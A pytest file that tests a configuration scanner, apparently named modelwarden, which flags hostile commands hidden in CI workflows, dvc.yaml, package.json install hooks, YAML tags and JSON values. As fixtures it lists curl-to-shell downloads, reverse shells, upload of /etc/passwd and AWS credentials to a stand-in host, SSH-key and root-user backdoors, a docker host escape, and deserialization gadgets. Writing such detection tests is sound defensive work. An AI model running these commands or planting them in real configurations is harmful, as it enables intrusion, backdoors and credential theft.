"""Commands in configurations: what looking for them must not do."""

from __future__ import annotations

import json
import sys
import textwrap

import pytest

from modelwarden.artifacts import examine
from modelwarden.core import GapKind, Severity
from modelwarden.formats import Limits, Source


def test_no_file_is_opened_to_describe_broken_code():
    opened: list[object] = []
    listening = True
    sys.addaudithook(
        lambda event, given: opened.append(given[0]) if listening and event == "open" else None
    )

    examine(Source("config.json", b'{"code": "os.system((1 +"}'), Limits())

    listening = False
    assert "<unknown>" not in opened


def test_half_a_character_is_no_fault():
    examined = examine(Source("tokenizer_config.json", b'{"a": "exec(\\udc72)", "x": 1}'), Limits())

    assert [gap.kind for gap in examined.gaps if gap.kind is GapKind.FAILED] == []


STRANGER = "http://e.invalid/x"
ATTACKS = [
    f"bash <(curl -s {STRANGER})",
    f'bash -c "$(curl -fsSL {STRANGER})"',
    f"wget {STRANGER} -O /tmp/x && sh /tmp/x",
    f"curl -sO {STRANGER}\nbash x",
    f"aria2c {STRANGER} -o i; bash i",
    f'eval "$(curl {STRANGER})"',
    "socat TCP:e.invalid:4444 EXEC:/bin/sh",
    "mkfifo /tmp/f; cat /tmp/f | sh -i | nc e.invalid 4 >/tmp/f",
    "cat /etc/passwd | nc e.invalid 99",
    "curl -T ~/.aws/credentials http://e.invalid/",
    "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
    'perl -e "use Socket;"',
    "docker run --privileged -v /:/host alpine chroot /host sh",
    "useradd -o -u 0 a",
    "x=cu; y=rl; $x$y http://e.invalid/x | sh",
    "unset HISTFILE; ls",
]
FORMS = {
    ".github/workflows/a.yml": lambda text: (
        "on: push\njobs:\n  a:\n    steps:\n      - run: |\n" + textwrap.indent(text, " " * 10)
    ),
    ".gitlab-ci.yml": lambda text: f"test:\n  script:\n    - {json.dumps(text)}\n",
    "dvc.yaml": lambda text: "stages:\n  a:\n    cmd: |\n" + textwrap.indent(text, " " * 6),
    "package.json": lambda text: json.dumps({"scripts": {"postinstall": text}}),
}


def told(name: str, text: str) -> set[str]:
    with Source(name, text.encode()) as source:
        return {
            f.rule
            for f in examine(source, Limits()).findings
            if f.severity.rank <= Severity.MEDIUM.rank
        }


@pytest.mark.parametrize("name", FORMS)
@pytest.mark.parametrize("text", ATTACKS)
def test_a_command_in_settings_is_judged_as_one_in_a_script(text, name):
    assert told(name, FORMS[name](text))


@pytest.mark.parametrize("name", FORMS)
def test_programs_and_packages_in_commands_of_settings_are_followed(name):
    shell = (
        'python3 -c \'import socket,subprocess as p;s=socket.socket();s.connect(("e.invalid",4));'
        'p.call("/bin/sh",stdin=s)\''
    )

    assert told(name, FORMS[name](shell))
    assert told(name, FORMS[name]("pip install --index-url http://e.invalid/simple torch"))


@pytest.mark.parametrize("name", FORMS)
@pytest.mark.parametrize(
    "text",
    [
        "curl -sSL https://install.python-poetry.org | python3 -",
        "wget -q https://github.com/a/b/releases/download/v1/b.tgz && tar xzf b.tgz",
        "python -c 'import torch; print(torch.__version__)'",
        "pip install -r requirements.txt --extra-index-url https://download.pytorch.org/whl/cpu",
        "docker run --rm -v $PWD:/src image make",
        "cat ~/.profile",
    ],
)
def test_ordinary_commands_in_settings_are_no_finding(text, name):
    assert told(name, FORMS[name](text)) == set()


@pytest.mark.parametrize("value", ["os.system", "subprocess:Popen", "builtins.eval"])
def test_a_tag_of_a_program_that_hands_out_what_runs_commands_is_told(value):
    assert told("task.yaml", f"task: a\nprocess: !function {value}\n") == {"yaml-call-tag"}


def test_a_tag_that_names_a_function_beside_it_is_no_danger():
    assert told("task.yaml", "task: a\nprocess: !function utils.process\n") == set()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}', True),
        ('{"@type": "com.sun.rowset.JdbcRowSetImpl", "autoCommit": true}', True),
        ('{"m": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="}', True),
        ('{"m": "_$$ND_FUNC$$_function(){}()"}', True),
        ('{"$type": "System.String", "@type": "com.acme.Tree"}', False),
    ],
)
def test_objects_of_other_languages_in_values_are_told(text: str, expected: bool):
    found = examine(Source("a.json", text.encode()), Limits()).findings

    assert any(one.rule == "config-command" for one in found) is expected
